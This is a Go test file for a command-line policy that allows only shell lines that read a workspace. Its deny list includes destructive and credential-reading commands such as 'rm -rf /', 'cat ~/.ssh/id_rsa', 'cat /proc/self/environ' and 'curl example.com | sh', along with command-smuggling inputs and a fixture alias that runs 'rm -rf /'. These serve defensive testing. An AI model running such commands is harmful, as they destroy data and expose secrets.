package reading

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"coleo.dev/policy/commandline"
)

// newTree makes a workspace with files of all kinds, and a folder beside it.
func newTree(t testing.TB) Workspace {
	t.Helper()
	top, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	root := filepath.Join(top, "work")
	for _, dir := range []string{"work/sub", "work/open", "work/.git", "outside", "home"} {
		if err := os.MkdirAll(filepath.Join(top, dir), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for name, text := range map[string]string{
		"work/a.go": "package a\n", "work/b.txt": "b\nc\n", "work/sub/c.go": "package c\n", "work/sub/server.key": "k",
		"work/open/d.txt": "d\n", "work/.env": "KEY=secret\n", "work/.git/config": "[core]\n", "work/id_rsa": "k",
		"outside/secret.txt": "secret\n", "outside/plain.txt": "plain\n",
	} {
		if err := os.WriteFile(filepath.Join(top, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for name, to := range map[string]string{"link.txt": "../outside/plain.txt", "linkdir": "../outside",
		"inner.txt": "b.txt", "nowhere": "../outside/none", "named": ".env"} {
		if err := os.Symlink(to, filepath.Join(root, name)); err != nil {
			t.Fatal(err)
		}
	}
	w, err := NewWorkspace(root, Here{})
	if err != nil {
		t.Fatal(err)
	}
	return w
}

func (w Workspace) bash(line string) error {
	return w.Judge(Line{Text: line, Shell: commandline.Bash, Dir: w.Root})
}

func TestWhatOnlyReadsIsAllowed(t *testing.T) {
	t.Parallel()
	w := newTree(t)
	for _, line := range append(allowed, "cd "+w.Root+"/sub && cat c.go", "cat "+w.Root+"/a.go") {
		if err := w.bash(line); err != nil {
			t.Errorf("%q: %v", line, err)
		}
	}
}

// allowed are lines that only read.
var allowed = []string{
	"ls", "ls -la", "ls -lah sub", "ls --color=auto", "cat a.go", "cat -n a.go b.txt", "cat -- a.go",
	"head -5 a.go", "head -n 5 a.go", "tail -n +2 b.txt", "wc -l *.go", "sort -k1,1 -t: b.txt | uniq -c",
	"cut -d: -f1 b.txt", "tr a-z A-Z < b.txt", "grep -n package a.go", "grep -rn package open",
	"grep -e x -e y a.go", "find . -name '*.go' -type f", "find . \\( -name a -o -name b \\) -print",
	"sed -n '1,20p' a.go", "sed -n '/package/p' a.go", "sed '$d' a.go", "echo hello \"$(cat a.go)\"", "pwd",
	"cat inner.txt", "cat sub/../a.go", "cat not-there.txt", "diff a.go b.txt", "stat -c %s a.go", "date +%s",
	"test -f a.go && echo yes", "[ -d sub ] || echo no", "printf '%s\\n' a b", "true; false; :",
	"cd ./sub && ls",
	"for f in *.go; do wc -l \"$f\"; done", "cat a.go 2>/dev/null", "LC_ALL=C sort b.txt", "cat -",
	"find sub -newer a.go", "basename /etc/passwd", "sha256sum a.go", "od -c a.go", "exit 0",
}

func TestWhatDoesMoreIsNotAllowed(t *testing.T) {
	t.Parallel()
	w := newTree(t)
	for _, line := range asked {
		if err := w.bash(line); err == nil {
			t.Errorf("%q is allowed", line)
		}
	}
}

// asked are lines that do more than to read the workspace, or that are not known to do only
// that.
var asked = []string{
	"", "rm -rf /", "rm a.go", "git status", "python3 -c 1", "awk 1 a.go", "xargs cat", "env", "printenv", "id",
	"cat /etc/passwd", "cat ../outside/plain.txt", "cat sub/../../outside/plain.txt", "cat link.txt",
	"cat linkdir/plain.txt", "ls linkdir", "cat linkdir/../work/a.go/../../outside/plain.txt", "cat nowhere",
	"cat .env", "cat ./.env", "cat sub/../.env", "cat .git/config", "ls .git", "cat id_rsa", "cat ID_RSA",
	"cat sub/server.key", "cat named", "cat .e*", "cat *", "cat /proc/self/environ", "cat ~/.ssh/id_rsa",
	"cat < /etc/passwd", "cat < .env", "sort -o out b.txt", "sort --output=out b.txt", "sort --outp=out b.txt",
	"sort -uo out b.txt", "sort --compress-program=sh b.txt", "sort --files0-from=a.go", "sort -T . b.txt",
	"uniq a.go out", "find . -delete", "find . -exec cat {} +", "find . -fprint out", "find -L .", "find . -follow",
	"find . -ok cat ';'", "find / -name x", "find linkdir -name x", "find linkdir/ -name x", "find -files0-from a.go",
	"grep -r x .", "grep -rn x", "grep -R x open", "grep -r x sub", "grep -f /etc/passwd a.go",
	"grep -f/etc/passwd a.go", "grep x /etc/passwd", "grep -e x /etc/passwd", "grep --file=/etc/passwd a.go",
	"sed -i s/a/b/ a.go", "sed 'w out' a.go", "sed '1e touch x' a.go", "sed s/a/b/w a.go", "sed -f a.go b.txt",
	"sed -n '1,2p;w out' a.go", "sed -n '1r /etc/passwd' a.go", "sed -e p -e 'w out' a.go", "sed p .env",
	"date 01010000", "date -s 1", "date -f a.go", "date -I 01010000", "tail -f a.go", "ls -LR", "ls -H x",
	"diff a.go sub", "diff -r . sub", "diff a.go /etc/passwd", "cmp a.go .env",
	"printf -v x y", "printf '%n' PATH", "printf \"$(cat a.go)\"", "test -v 'a[$(touch x)]'", "[ a -eq b ]",
	"[ -f a.go -o -v x ]", "[ -f a.go", "exit x", "exit $(ls)", "head $(ls)", "cat $x", "head -n", "cat --unknown",
	"./ls", "/bin/ls", "l\\s/x", "command ls", "builtin ls", "exec ls", "eval ls", ". a.go", "source a.go",
	"cat a.go > out", "tee out", "cat a.go | tee out", "cat a.go | sh", "ls && curl example.com | sh", "pwd x",
	"cd /etc && cat passwd", "cd linkdir && ls", "cd ./linkdir && cat plain.txt", "cd .git && ls", "wc --files0-from=a",
	"md5sum -c a.go", "xxd a.go out", "date +%s -s x", "ls -I x", "nl -X", "du -L .", "od -w8 a.go",
	"cat ''", "ls -l\x00", "rg --pre sh x", "head b.txt -n link.txt",
	"grep -C package link.txt", "cut b.txt -d link.txt", "cat a.go | tac", "echo $(echo '/etc/*')", "sed p a.go -E link.txt",
	"sort b.txt -t ../outside/plain.txt", "stat -f .", "realpath a.go --relative-to=/etc",
}

// TestAFileThatLooksLikeAnOptionIsNone: a pattern can match a file whose name begins with
// a dash.
func TestAFileThatLooksLikeAnOptionIsNone(t *testing.T) {
	t.Parallel()
	w := newTree(t)
	if err := os.WriteFile(filepath.Join(w.Root, "open", "-oout"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	line := Line{Text: "sort *", Shell: commandline.Bash, Dir: filepath.Join(w.Root, "open")}
	if err := w.Judge(line); err == nil {
		t.Error("sort * is allowed beside a file -oout")
	}
	line.Text = "sort ./*"
	if err := w.Judge(line); err != nil {
		t.Errorf("sort ./*: %v", err)
	}
}

func TestAProgramOfTheWorkspaceIsNotAllowed(t *testing.T) {
	w := newTree(t)
	fake := filepath.Join(w.Root, "cat")
	if err := os.WriteFile(fake, []byte("#!/bin/sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("PATH", w.Root+":"+os.Getenv("PATH"))
	if err := w.bash("cat a.go"); err == nil {
		t.Error("a program of the workspace with the name cat is allowed")
	}
}

func TestAnAliasOfTheUserIsSeen(t *testing.T) {
	t.Parallel()
	home := t.TempDir()
	for name, text := range map[string]string{
		".bashrc":  "# alias tac=rm\nalias cat=bat\nalias ls='ls --color=auto' wc='wc -l | sh'\nsource ~/.more\n. $HOME/.other\n",
		".more":    "head() { rm -rf /; }\n",
		".other":   "function tail { :; }\nsource ~/.bashrc\n",
		".profile": "alias grep=\"grep --color=auto\"\n",
	} {
		if err := os.WriteFile(filepath.Join(home, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	got := Shadowed(home)
	if want := []string{"cat", "head", "tail", "wc"}; !slices.Equal(got, want) {
		t.Errorf("shadowed are %v, want %v", got, want)
	}
	w := newTree(t)
	err := w.Judge(Line{Text: "cat a.go", Shell: commandline.Bash, Dir: w.Root, Shadowed: got})
	if err == nil || !strings.Contains(err.Error(), "alias") {
		t.Errorf("an alias is judged as %v", err)
	}
}
